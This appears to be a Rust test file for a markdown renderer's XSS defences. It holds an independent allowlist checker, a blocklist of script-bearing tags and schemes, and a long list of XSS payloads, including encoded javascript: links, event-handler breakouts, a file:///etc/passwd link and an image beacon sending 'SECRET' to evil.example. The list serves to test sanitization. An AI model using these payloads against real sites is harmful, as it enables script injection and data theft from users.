//! Safety tests for `render`: hostile inputs must never produce markup outside the allowlist.
//!
//! The checker below parses the renderer's output independently of the renderer: every `<...>`
//! must be an allowlisted tag with allowlisted attributes and values, tags must balance, and
//! `<`, `>` and `&` may appear in text only as the entities the renderer writes.

use super::to_html::{render, render_blocks, HtmlStream as StreamingMarkdown};

/// A small deterministic PRNG (xorshift64*), so generated cases are the same on every run.
pub(super) struct Rng(u64);

impl Rng {
    pub(super) fn new(seed: u64) -> Self {
        Rng(seed.max(1))
    }

    pub(super) fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }

    pub(super) fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
}

const VOID_TAGS: [&str; 3] = ["br", "hr", "input"];

fn allowed_attrs(tag: &str) -> Option<&'static [&'static str]> {
    Some(match tag {
        "p" | "h1" | "h2" | "h3" | "h4" | "h5" | "h6" | "pre" | "ul" | "li" | "table" | "thead"
        | "tbody" | "tr" | "em" | "strong" | "del" | "sub" | "br" | "hr" => &[],
        "sup" => &["class"],
        "blockquote" | "code" | "span" | "aside" => &["class"],
        "ol" => &["start"],
        "th" | "td" => &["align"],
        "a" => &["href", "title", "target", "rel", "class"],
        "input" => &["type", "disabled", "checked", "aria-label"],
        // MathML from `math/`: presentation elements only, no links, no styles.
        "semantics" | "mrow" | "mn" | "mo" | "mtext" | "msub" | "msup" | "msubsup" | "munder"
        | "munderover" | "msqrt" | "mroot" | "mtable" | "mtr" | "mtd" => &[],
        "math" => &["display"],
        "annotation" => &["encoding"],
        "mfrac" => &["linethickness"],
        "mover" => &["accent"],
        "mspace" => &["width"],
        "mi" => &["mathvariant"],
        _ => return None,
    })
}

fn decode_attr(value: &str) -> String {
    value
        .replace("&quot;", "\"")
        .replace("&#39;", "'")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&amp;", "&")
}

/// Independent of `url.rs` on purpose: a kept href must have no scheme or an allowed one, after
/// removing everything a browser ignores.
fn href_is_safe(raw: &str) -> bool {
    if raw.chars().any(|c| c.is_whitespace() || c.is_control()) {
        return false;
    }
    let decoded = decode_attr(raw);
    let lower = decoded.to_ascii_lowercase();
    match lower.find([':', '/', '?', '#']) {
        Some(i) if lower.as_bytes()[i] == b':' => {
            matches!(&lower[..i], "http" | "https" | "mailto")
        }
        _ => true,
    }
}

fn value_is_allowed(tag: &str, name: &str, value: &str) -> bool {
    match (tag, name) {
        (_, "class") => {
            let lang_ok = value.strip_prefix("language-").is_some_and(|l| {
                !l.is_empty()
                    && l.chars()
                        .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '+' | '-'))
            });
            lang_ok
                || (tag == "span"
                    && matches!(
                        value,
                        "hl-kw"
                            | "hl-lit"
                            | "hl-str"
                            | "hl-num"
                            | "hl-com"
                            | "hl-meta"
                            | "hl-key"
                            | "hl-tag"
                            | "hl-attr"
                            | "hl-add"
                            | "hl-del"
                    ))
                || (tag == "a" && value == "md-image")
                || (tag == "code" && value == "math-src")
                || (tag == "sup" && value == "footnote-ref")
                || (tag == "aside" && value == "footnote")
                || (tag == "blockquote"
                    && matches!(
                        value,
                        "markdown-alert-note"
                            | "markdown-alert-tip"
                            | "markdown-alert-important"
                            | "markdown-alert-warning"
                            | "markdown-alert-caution"
                    ))
        }
        ("ol", "start") => !value.is_empty() && value.chars().all(|c| c.is_ascii_digit()),
        (_, "align") => matches!(value, "left" | "center" | "right"),
        ("a", "href") => href_is_safe(value),
        ("a", "title") => true,
        ("math", "display") => value == "block",
        ("annotation", "encoding") => value == "application/x-tex",
        ("mfrac", "linethickness") => value == "0",
        ("mover", "accent") => value == "true",
        ("mspace", "width") => super::math::SPACE_WIDTHS.contains(&value),
        ("mi", "mathvariant") => value == "normal",
        ("a", "target") => value == "_blank",
        ("a", "rel") => value == "noopener noreferrer",
        ("input", "type") => value == "checkbox",
        ("input", "disabled") | ("input", "checked") => value.is_empty(),
        ("input", "aria-label") => matches!(value, "Done" | "Not done"),
        _ => false,
    }
}

/// Checks one rendered fragment; the error says what broke and where.
pub(super) fn check_html(html: &str) -> Result<(), String> {
    let mut open: Vec<String> = Vec::new();
    let mut rest = html;
    while let Some(c) = rest.chars().next() {
        match c {
            '<' => {
                let end = rest
                    .find('>')
                    .ok_or_else(|| format!("unterminated tag at {rest:?}"))?;
                check_tag(&rest[1..end], &mut open)
                    .map_err(|e| format!("{e} in <{}>", &rest[1..end]))?;
                rest = &rest[end + 1..];
            }
            '>' => return Err(format!("bare '>' in text at {rest:?}")),
            '&' => {
                let entity = ["&amp;", "&lt;", "&gt;", "&quot;", "&#39;"]
                    .into_iter()
                    .find(|e| rest.starts_with(e))
                    .ok_or_else(|| format!("bare '&' in text at {rest:?}"))?;
                rest = &rest[entity.len()..];
            }
            _ => rest = &rest[c.len_utf8()..],
        }
    }
    if open.is_empty() {
        Ok(())
    } else {
        Err(format!("unclosed tags {open:?}"))
    }
}

fn check_tag(inner: &str, open: &mut Vec<String>) -> Result<(), String> {
    if let Some(name) = inner.strip_prefix('/') {
        return match open.pop() {
            Some(top) if top == name => Ok(()),
            other => Err(format!("closing </{name}> but open is {other:?}")),
        };
    }
    let self_closing = inner.ends_with(" /");
    let inner = inner.strip_suffix(" /").unwrap_or(inner);
    let name_end = inner.find(' ').unwrap_or(inner.len());
    let name = &inner[..name_end];
    let attrs_allowed = allowed_attrs(name).ok_or_else(|| format!("tag {name:?} not allowed"))?;
    let is_void = VOID_TAGS.contains(&name);
    if is_void != self_closing {
        return Err(format!("void/self-closing mismatch for {name}"));
    }
    let mut attrs = &inner[name_end..];
    let mut seen = Vec::new();
    while !attrs.is_empty() {
        let a = attrs
            .strip_prefix(' ')
            .ok_or_else(|| format!("junk {attrs:?}"))?;
        let eq = a
            .find("=\"")
            .ok_or_else(|| format!("attribute without quoted value: {a:?}"))?;
        let attr_name = &a[..eq];
        let after = &a[eq + 2..];
        let close = after
            .find('"')
            .ok_or_else(|| format!("unterminated value {after:?}"))?;
        let value = &after[..close];
        if attr_name.to_ascii_lowercase().starts_with("on") {
            return Err(format!("event handler attribute {attr_name}"));
        }
        if !attrs_allowed.contains(&attr_name) {
            return Err(format!("attribute {attr_name:?} not allowed on {name}"));
        }
        if value.contains('<') || value.contains('>') {
            return Err(format!("raw angle bracket in {attr_name} value"));
        }
        if !value_is_allowed(name, attr_name, value) {
            return Err(format!(
                "value {value:?} not allowed for {name}.{attr_name}"
            ));
        }
        if seen.contains(&attr_name) {
            return Err(format!("duplicate attribute {attr_name}"));
        }
        seen.push(attr_name);
        attrs = &after[close + 1..];
    }
    if name == "a" && seen.contains(&"href") && !(seen.contains(&"target") && seen.contains(&"rel"))
    {
        return Err("link without target/rel".into());
    }
    if !is_void {
        if name == "a" && open.iter().any(|t| t == "a") {
            return Err("nested anchors".into());
        }
        open.push(name.to_owned());
    }
    Ok(())
}

/// Crude textual checks, independent of the tag parser above.
fn assert_no_active_content(md: &str, html: &str) {
    let lower = html.to_ascii_lowercase();
    for needle in [
        "<script",
        "<iframe",
        "<img",
        "<svg",
        "<style",
        "<object",
        "<embed",
        "<meta",
        "<link",
        "<base",
        "<form",
        "<math",
        "<video",
        "<audio",
        "<details",
        "<div",
        "<body",
        "javascript:",
        "vbscript:",
        "data:text",
    ] {
        if needle.ends_with(':') || needle.starts_with("data") {
            // Text may mention a scheme; only an href may not carry one.
            assert!(
                !lower.contains(&format!("href=\"{needle}")),
                "{needle} href for {md:?}:\n{html}"
            );
        } else {
            assert!(!lower.contains(needle), "{needle} for {md:?}:\n{html}");
        }
    }
    // The only spans are the highlighter's.
    assert_eq!(
        lower.matches("<span").count(),
        lower.matches("<span class=\"hl-").count(),
        "foreign span for {md:?}:\n{html}"
    );
    // No `on...=` attribute inside any tag.
    let mut rest = lower.as_str();
    while let Some(start) = rest.find('<') {
        let end = rest[start..].find('>').map_or(rest.len(), |e| start + e);
        // Values are quoted and cannot contain a raw `"`, so dropping them leaves names only.
        let tag: String = rest[start..end]
            .split('"')
            .step_by(2)
            .collect::<Vec<_>>()
            .join("\"\"");
        let tag = tag.as_str();
        let bytes = tag.as_bytes();
        for (i, _) in tag.match_indices(" on") {
            let word: String = tag[i + 3..]
                .chars()
                .take_while(|c| c.is_ascii_lowercase())
                .collect();
            let after = bytes.get(i + 3 + word.len()).copied();
            assert!(
                word.is_empty() || after != Some(b'='),
                "event handler in tag {tag:?} for {md:?}"
            );
        }
        rest = &rest[end..];
    }
    if let Err(e) = check_html(html) {
        panic!("{e}\ninput: {md:?}\noutput:\n{html}");
    }
}

/// Vectors in the style of public markdown XSS payload collections (links with script schemes
/// in every spelling, image attribute breakouts, raw HTML with handlers), plus this renderer's
/// own concerns (heading ids, code info strings, nested anchors).
const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//x.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"https://x.example/p.png\" onload=\"alert(1)\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<div onmouseover=\"alert(1)\">hover</div>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!-- --><script>alert(1)</script> -->",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<body onload=alert(1)>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](javascript://example.com%0Aalert(1))",
    "[a]('javascript:alert(1)')",
    "[a](<javascript:alert(1)>)",
    "[a](java\tscript:alert(1))",
    "[a](  javascript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))",
    "[a](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
    "[a](javascript&#58;alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](Javas&#99;ript:alert(1))",
    "[a](Javas%26%2399;ript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](vbscript:msgbox(1))",
    "[a](file:///etc/passwd)",
    "[a](\\javascript:alert(1))",
    "[a](javascript\\:alert(1))",
    "[a]: javascript:alert(1)\n\n[a]",
    "[a](https://x.example \"\\\" onmouseover=\\\"alert(1)\")",
    "[a](https://x.example/\"onmouseover=\"alert(1))",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<vbscript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "![a](javascript:alert(1))",
    "![a](https://x.example/p.png\"onload=\"alert(1))",
    "![a](\"onerror=\"alert(1))",
    "![a'\"`onerror=alert(1)](x)",
    "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![track](https://evil.example/pixel.gif?c=SECRET)",
    "[![img](https://x.example/i.png)](https://y.example)",
    "[![img](javascript:alert(1))](javascript:alert(2))",
    "[<img src=x onerror=alert(1)>](https://x.example)",
    "# heading {#__proto__}",
    "# <img src=x onerror=alert(1)>",
    "```\"><script>alert(1)</script>\ncode\n```",
    "```js\" onmouseover=\"alert(1)\ncode\n```",
    "~~~<img/src/onerror=alert(1)>\n~~~",
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> | b |\n|---|---|\n| [x](javascript:alert(1)) | ![i](x) |",
    "- [ ] <img src=x onerror=alert(1)>\n- [x] [a](javascript:alert(1))",
    "> <iframe src=javascript:alert(1)>",
    "<http://x.example/\"onmouseover=\"alert(1)>",
    "<a@b.c\"onmouseover=\"alert(1)>",
    "[a](mailto:x@y.z?subject=\"><script>alert(1)</script>)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u{0}<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "[a](#\"onclick=\"alert(1))",
    "<?php echo 1; ?>",
    "<![CDATA[<script>alert(1)</script>]]>",
];

/// Puts each payload in each markdown context a hostile string can reach.
const CONTEXTS: &[&str] = &[
    "{p}",
    "text {p} text",
    "- {p}",
    "1. {p}",
    "> {p}",
    "# {p}",
    "Title\n===\n{p}",
    "| h |\n|---|\n| {p} |",
    "[{p}](https://x.example)",
    "![{p}](https://x.example/i.png)",
    "[x]({p})",
    "![x]({p})",
    "[x](https://x.example \"{p}\")",
    "```{p}\nbody\n```",
    "`{p}`",
    "<{p}>",
    "[r]: {p}\n\n[r]",
    "**{p}**",
    "    {p}",
    "para\n{p}\n\nafter",
];

#[test]
fn hostile_payloads_in_every_context_produce_only_allowlisted_markup() {
    let mut checked = 0;
    for payload in PAYLOADS {
        for context in CONTEXTS {
            let md = context.replace("{p}", payload);
            assert_no_active_content(&md, &render(&md));
            for block in render_blocks(&md) {
                assert_no_active_content(&md, &block);
            }
            checked += 1;
        }
    }
    assert_eq!(checked, PAYLOADS.len() * CONTEXTS.len());
}

#[test]
fn generated_strings_always_render_to_balanced_allowlisted_markup() {
    const PIECES: &[&str] = &[
        "<",
        ">",
        "&",
        "\"",
        "'",
        "`",
        "```",
        "~~~",
        "*",
        "**",
        "_",
        "~~",
        "[",
        "]",
        "(",
        ")",
        "![",
        "](",
        "#",
        "# ",
        "-",
        "- ",
        "+ ",
        "1. ",
        "2) ",
        "|",
        "|---|",
        ":",
        "\n",
        "\n\n",
        " ",
        "    ",
        "\t",
        "> ",
        "a",
        "word",
        "é",
        "🦀",
        "\\",
        "javascript:",
        "JaVa\tScript:",
        "data:",
        "http://x.example",
        "https:",
        "mailto:",
        "&#106;",
        "&amp;",
        "&colon;",
        "<script>",
        "</script>",
        "<img src=x onerror=alert(1)>",
        "<a href=",
        "on",
        "onerror=",
        "[^1]",
        "{#id}",
        "---",
        "===",
        "- [ ] ",
        "- [x] ",
        "<div>",
        "<!--",
        "-->",
        "<https://x.example>",
        "[r]: ",
        "\"t\"",
        "\r\n",
        "<?",
        "?>",
        "$",
        "$$",
        "^",
        "\u{0}",
        "\u{a0}",
    ];
    let seed = std::env::var("MD_FUZZ_SEED")
        .ok()
        .and_then(|v| v.parse().ok());
    let mut rng = Rng::new(seed.unwrap_or(0x5eed_cafe));
    let cases: usize = std::env::var("MD_FUZZ_CASES")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(4000);
    for case in 0..cases {
        let len = rng.below(60);
        let pieces: Vec<&str> = (0..len).map(|_| PIECES[rng.below(PIECES.len())]).collect();
        let md = pieces.concat();
        let html = render(&md);
        if let Err(e) = check_html(&html) {
            panic!("case {case}: {e}\ninput: {md:?}\noutput:\n{html}");
        }
        // The page inserts each block on its own, so each must balance by itself.
        let blocks = render_blocks(&md);
        for block in &blocks {
            if let Err(e) = check_html(block) {
                panic!("case {case} block: {e}\ninput: {md:?}\nblock:\n{block}");
            }
        }
        // Streamed piece by piece, the same blocks come out.
        let mut stream = StreamingMarkdown::new();
        let mut streamed = Vec::new();
        for piece in &pieces {
            streamed.extend(stream.push(piece).finished);
        }
        streamed.extend(stream.finish());
        assert_eq!(streamed, blocks, "case {case}: {md:?}");
    }
}

#[test]
fn the_checker_rejects_what_it_must() {
    for bad in [
        "<script>x</script>",
        "<p onclick=\"x\">a</p>",
        "<a href=\"javascript:x\" target=\"_blank\" rel=\"noopener noreferrer\">a</a>",
        "<a href=\"https://x\">no rel</a>",
        "<p>unclosed",
        "<em><strong>a</em></strong>",
        "<p>a > b</p>",
        "<p>a & b</p>",
        "<code class=\"language-x y\">a</code>",
        "<br>",
        "<a href=\"https://x\" target=\"_blank\" rel=\"noopener noreferrer\"><a href=\"#\" target=\"_blank\" rel=\"noopener noreferrer\">n</a></a>",
    ] {
        assert!(check_html(bad).is_err(), "checker accepted {bad:?}");
    }
    assert_eq!(check_html("<p>a &amp; <em>b</em><br />\n</p>"), Ok(()));
}

#[test]
fn raw_html_is_shown_as_text() {
    assert_eq!(
        render("<script>alert(1)</script>\n"),
        "<pre><code class=\"language-html\">&lt;script&gt;alert(1)&lt;/script&gt;\n</code></pre>\n"
    );
    assert_eq!(
        render("Use <b onclick=x>bold</b> here"),
        "<p>Use &lt;b onclick=x&gt;bold&lt;/b&gt; here</p>\n"
    );
}

#[test]
fn kept_links_open_in_a_new_tab_and_refused_links_keep_their_text() {
    assert_eq!(
        render("[docs](https://example.com/a?b=1&c=2 \"The \\\"docs\\\"\")"),
        "<p><a href=\"https://example.com/a?b=1&amp;c=2\" title=\"The &quot;docs&quot;\" \
         target=\"_blank\" rel=\"noopener noreferrer\">docs</a></p>\n"
    );
    assert_eq!(
        render("<me@example.com> and [top](#top)"),
        "<p><a href=\"mailto:me@example.com\" target=\"_blank\" rel=\"noopener noreferrer\">\
         me@example.com</a> and <a href=\"#top\" target=\"_blank\" rel=\"noopener noreferrer\">\
         top</a></p>\n"
    );
    for bad in [
        "[click *me*](javascript:alert(1))",
        "[click *me*](&#106;avascript:alert(1))",
        "[click *me*](JaVaScRiPt:alert(1))",
        "[click *me*](data:text/html,x)",
        "[click *me*](vbscript:x)",
        "[click *me*](file:///etc/passwd)",
    ] {
        assert_eq!(render(bad), "<p>click <em>me</em></p>\n", "{bad}");
    }
}

#[test]
fn images_become_links_and_never_load() {
    assert_eq!(
        render("![a *cat*](https://img.example/cat.png \"Cat\")"),
        "<p><a class=\"md-image\" href=\"https://img.example/cat.png\" title=\"Cat\" \
         target=\"_blank\" rel=\"noopener noreferrer\">🖼 a cat</a></p>\n"
    );
    assert_eq!(render("![](javascript:alert(1))"), "<p>🖼 image</p>\n");
    // Inside a link the image is text, so anchors never nest.
    assert_eq!(
        render("[![logo](https://i.example/l.png)](https://example.com)"),
        "<p><a href=\"https://example.com\" target=\"_blank\" rel=\"noopener noreferrer\">\
         🖼 logo</a></p>\n"
    );
}

#[test]
fn code_blocks_keep_a_sanitized_language_and_escaped_content() {
    assert_eq!(
        render("```rust,ignore\nlet a = \"<b>\" && b;\n```\n"),
        "<pre><code class=\"language-rust\"><span class=\"hl-kw\">let</span> a = \
         <span class=\"hl-str\">&quot;&lt;b&gt;&quot;</span> &amp;&amp; b;\n</code></pre>\n"
    );
    assert_eq!(
        render("```c#\nx\n```"),
        "<pre><code class=\"language-csharp\">x\n</code></pre>\n"
    );
    assert_eq!(
        render("```js\" onmouseover=\"alert(1)\nx\n```"),
        "<pre><code class=\"language-js\">x\n</code></pre>\n"
    );
    assert_eq!(render("```\"><\nx\n```"), "<pre><code>x\n</code></pre>\n");
}

#[test]
fn gfm_extensions_render_and_headings_have_no_ids() {
    assert_eq!(
        render("| a | b |\n|:-:|--:|\n| ~~x~~ | 2 |\n"),
        "<table><thead><tr><th align=\"center\">a</th><th align=\"right\">b</th></tr></thead>\
         <tbody>\n<tr><td align=\"center\"><del>x</del></td><td align=\"right\">2</td></tr>\n\
         </tbody></table>\n"
    );
    assert_eq!(
        render("- [x] done\n- [ ] todo\n"),
        "<ul>\n<li><input type=\"checkbox\" disabled=\"\" checked=\"\" aria-label=\"Done\" /> \
         done</li>\n<li><input type=\"checkbox\" disabled=\"\" aria-label=\"Not done\" /> todo</li>\n\
         </ul>\n"
    );
    assert_eq!(render("## Intro {#main}\n"), "<h2>Intro {#main}</h2>\n");
    assert_eq!(render("Title\n---\n"), "<h2>Title</h2>\n");
    assert_eq!(
        render("> [!WARNING]\n> careful\n"),
        "<blockquote class=\"markdown-alert-warning\">\n<p>careful</p>\n</blockquote>\n"
    );
    assert_eq!(
        render("3. c\n4. d\n"),
        "<ol start=\"3\">\n<li>c</li>\n<li>d</li>\n</ol>\n"
    );
    // Footnotes render without ids or links: their labels would become ids.
    assert_eq!(
        render("a[^n] b\n"),
        "<p>a<sup class=\"footnote-ref\">n</sup> b</p>\n"
    );
    assert!(!render("a[^n]\n\n[^n]: note\n").contains("id="));
}

/// Named character references resolve through the vendored pulldown-cmark's compact entity
/// table (`vendor/README.md`) exactly as through upstream's: first, last, multi-character and
/// control values, and names that are not entities stay text.
#[test]
fn named_entities_resolve_through_the_compact_table() {
    assert_eq!(
        render("&AElig; &zwnj; &nbsp; &amp; &NotEqualTilde; &fjlig; &Tab; &nope; &AMP"),
        "<p>\u{C6} \u{200C} \u{A0} &amp; \u{2242}\u{338} fj \t &amp;nope; &amp;AMP</p>\n"
    );
}

/// Every element and attribute of a tree, visited depth first.
fn walk(nodes: &[super::MdNode], visit: &mut impl FnMut(&super::Element)) {
    for node in nodes {
        if let super::MdNode::Element(el) = node {
            visit(el);
            walk(&el.children, visit);
        }
    }
}

/// The tree's text, as the DOM would show it.
fn text_of(nodes: &[super::MdNode]) -> String {
    let mut out = String::new();
    for node in nodes {
        match node {
            super::MdNode::Text(t) => out.push_str(t),
            super::MdNode::Element(el) => out.push_str(&text_of(&el.children)),
        }
    }
    out
}

/// The tree itself, not its serialization: every attribute the page will set is on the
/// allowlist with an allowed value (checked on the raw value the DOM receives).
#[test]
fn hostile_payloads_in_every_context_build_only_allowlisted_trees() {
    for payload in PAYLOADS {
        for context in CONTEXTS {
            let md = context.replace("{p}", payload);
            let mut trees = vec![super::render(&md)];
            trees.extend(super::render_blocks(&md));
            for tree in &trees {
                walk(tree, &mut |el| {
                    let tag = el.tag.as_str();
                    let names = allowed_attrs(tag).unwrap_or_else(|| panic!("{tag} in {md:?}"));
                    for attr in &el.attrs {
                        let (name, value) = (attr.name(), attr.value());
                        assert!(names.contains(&name), "{tag} {name} in {md:?}");
                        assert!(
                            value_is_allowed(tag, name, &value),
                            "{tag} {name}={value:?} in {md:?}"
                        );
                    }
                });
            }
        }
    }
}

#[test]
fn hostile_markdown_reaches_the_tree_only_as_text() {
    let md = "<script>alert(1)</script>\n\n\
              [a](javascript:alert(1)) <img src=x onerror=alert(1)> \
              [b](https://a.example/\"onmouseover=\"alert(1)) \
              [c](<https://c.example/x y>) \
              ![d](https://i.example/p.png \"t\\\"><script>alert(2)</script>\")\n";
    let tree = super::render(md);
    let text = text_of(&tree);
    // Nothing is interpreted, nothing is lost: the markup is there to read.
    assert!(text.contains("<script>alert(1)</script>"), "{text}");
    assert!(text.contains("<img src=x onerror=alert(1)>"), "{text}");
    let mut tags = Vec::new();
    let mut hrefs = Vec::new();
    let mut titles = Vec::new();
    walk(&tree, &mut |el| {
        tags.push(el.tag);
        for attr in &el.attrs {
            match attr {
                super::Attr::Href(h) => hrefs.push(h.as_str().to_owned()),
                super::Attr::Title(t) => titles.push(t.clone()),
                _ => {}
            }
        }
    });
    use super::Tag;
    assert!(
        tags.iter()
            .all(|t| matches!(t, Tag::Pre | Tag::Code | Tag::P | Tag::A)),
        "{tags:?}"
    );
    // The script link is refused; quotes and spaces in kept targets are percent-encoded, so
    // no value can carry a second attribute even if it were ever written out as text.
    assert_eq!(
        hrefs,
        [
            "https://a.example/%22onmouseover=%22alert(1)",
            "https://c.example/x%20y",
            "https://i.example/p.png",
        ]
    );
    // A title is a value the DOM stores as given: its quotes and tags are just characters.
    assert_eq!(titles, ["t\"><script>alert(2)</script>"]);
    assert_eq!(super::to_html::to_html(&tree).matches("<script").count(), 0);
}
